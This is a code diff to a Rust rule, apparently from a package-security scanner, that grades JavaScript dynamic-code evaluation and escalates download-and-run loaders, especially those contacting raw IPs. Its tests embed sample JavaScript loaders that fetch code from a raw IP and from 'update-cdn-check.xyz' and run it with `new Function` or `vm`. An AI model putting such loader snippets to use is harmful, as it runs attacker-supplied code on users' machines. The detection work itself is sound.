@@ -26,8 +26,12 @@ static INFO: RuleInfo = RuleInfo {
 Severity rises with where the code comes from:
 - **high**: the code or module name was decoded at run time (`eval(atob(…))`,
   `require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==','base64').toString())`), or a small (< 50 KB),
-  hand-written file `eval`s a computed string and also talks to the network (download-and-eval;
-  module runners like vitest use `vm` next to `fetch` and stay moderate);
+  hand-written file `eval`s a computed string and also talks to the network (download-and-eval),
+  or compiles one with `Function` or `vm` in a tiny file (< 4 KB) or one that talks to a raw IP
+  or an exfiltration service (module runners like vitest use `vm` next to `fetch` in larger
+  files and stay moderate); **critical** when that file talks to a raw IP or an exfiltration
+  service (a paste site, a request bin); a loader finding also carries the network capability,
+  so an install hook that runs the loader scores as fetching and running code;
 - **moderate**: `eval`, `vm` or `_compile` of a computed string;
 - **low**: `Function`/`eval` of a literal, `new Function(computed)` (template engines and schema
   compilers do this), `require` of a computed path (plugin loaders).
@@ -54,6 +58,9 @@ const MAX_LOW_FINDINGS: usize = 3;
 /// Files larger than this are bundles: a network call and an eval far apart in them mean little.
 const SMALL_FILE: usize = 50_000;
 
+/// A file this small that downloads data and compiles a computed string is a loader.
+const TINY_FILE: usize = 4_000;
+
 impl FileRule for DynamicCode {
     fn info(&self) -> &'static RuleInfo {
         &INFO
@@ -62,16 +69,49 @@ impl FileRule for DynamicCode {
     fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
         let small_handwritten = !file.metrics.minified && (file.metrics.bytes.max(file.size as usize)) < SMALL_FILE;
         let downloads = small_handwritten && sinks::has_network(file);
+        // `Function` and `vm` next to the network are also how test runners and template
+        // servers work; they count as a loader in a tiny file or one that talks to a raw IP
+        // or an exfiltration service.
+        let target = if downloads {
+            super::env_harvest::exfil_target(file)
+        } else {
+            None
+        };
+        let loader = downloads && (file.metrics.bytes.max(file.size as usize) < TINY_FILE || target.is_some());
         let mut budget = sinks::LowBudget::new(MAX_LOW_FINDINGS);
         for call in &file.calls {
-            if let Some(classified) = classify(call, downloads) {
+            let context = Download {
+                eval: downloads,
+                any: loader,
+                target: target.as_deref(),
+            };
+            if let Some(classified) = classify(call, &context) {
+                let before = out.len();
+                let loads = classified.2.ends_with("a download-and-run loader");
                 budget.push_call_finding(out, &INFO, file, call, classified);
+                // A loader fetches what it runs: the finding carries the network too.
+                for finding in out.iter_mut().skip(before).filter(|_| loads) {
+                    if !finding.capabilities.contains(&Capability::Network) {
+                        finding.capabilities.push(Capability::Network);
+                    }
+                }
             }
         }
     }
 }
 
-fn classify(call: &Call, downloads: bool) -> Option<(Severity, Confidence, String)> {
+/// What a file's network use says about the code it evaluates.
+struct Download<'t> {
+    /// A small hand-written file that talks to the network: `eval` of a computed string there
+    /// is a loader.
+    eval: bool,
+    /// So is `Function` or `vm` (a tiny file, or one that talks to `target`).
+    any: bool,
+    /// The raw IP or exfiltration service the file talks to, if any.
+    target: Option<&'t str>,
+}
+
+fn classify(call: &Call, download: &Download<'_>) -> Option<(Severity, Confidence, String)> {
     let callee = sinks::normalize(&call.callee);
     if matches!(callee, "require" | "import" | "module.require" | "require.call") {
         let specifier = call.args.first()?;
@@ -139,12 +179,19 @@ fn classify(call: &Call, downloads: bool) -> Option<(Severity, Confidence, Strin
     if is_timer_string {
         return None;
     }
-    if downloads && callee == "eval" {
-        return Some((
-            Severity::High,
-            Confidence::Medium,
-            format!("Evaluates a computed string with {what} in a small file that also downloads data: a download-and-run loader"),
-        ));
+    if (download.eval && callee == "eval") || download.any {
+        return Some(match download.target {
+            Some(target) => (
+                Severity::Critical,
+                Confidence::High,
+                format!("Evaluates a computed string with {what} in a small file that downloads from {target}: a download-and-run loader"),
+            ),
+            None => (
+                Severity::High,
+                Confidence::Medium,
+                format!("Evaluates a computed string with {what} in a small file that also downloads data: a download-and-run loader"),
+            ),
+        });
     }
     if callee == "Function" {
         return Some((
@@ -219,6 +266,26 @@ mod tests {
     fn download_and_eval_is_high() {
         let source = "const https = require('https');\nhttps.get('https://cdn.example.invalid/s', (r) => { let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)); });";
         assert_eq!(worst(source), Severity::High);
+    }
+
+    #[test]
+    fn function_or_vm_of_downloaded_code_in_a_loader_is_high() {
+        let ip = "(async () => {\n  const r = await fetch('http://91.92.120.55:3000/api/config');\n  new Function('require', await r.text())(require);\n})();";
+        assert_eq!(worst(ip), Severity::Critical, "{:?}", run(ip));
+        assert!(run(ip)[0].message.contains("91.92.120.55"));
+        let tiny = "const vm = require('vm'), http = require('http');\nhttp.get({ host: 'update-cdn-check.xyz', path: '/v1/loader.js' }, (res) => {\n  const chunks = [];\n  res.on('data', (c) => chunks.push(c));\n  res.on('end', () => vm.runInThisContext(Buffer.concat(chunks).toString()));\n});";
+        assert_eq!(worst(tiny), Severity::High, "{:?}", run(tiny));
+        assert!(
+            run(tiny)[0].capabilities.contains(&Capability::Network),
+            "{:?}",
+            run(tiny)
+        );
+        // A module runner: larger, fetching from its own dev server, stays moderate.
+        let runner = format!(
+            "const vm = require('vm');\n{}\nmodule.exports = async (url) => {{ const r = await fetch(url); return vm.runInThisContext(await r.text()); }};",
+            "// module runner internals\n".repeat(250)
+        );
+        assert_eq!(worst(&runner), Severity::Moderate, "{:?}", run(&runner));
     }
 
     #[test]
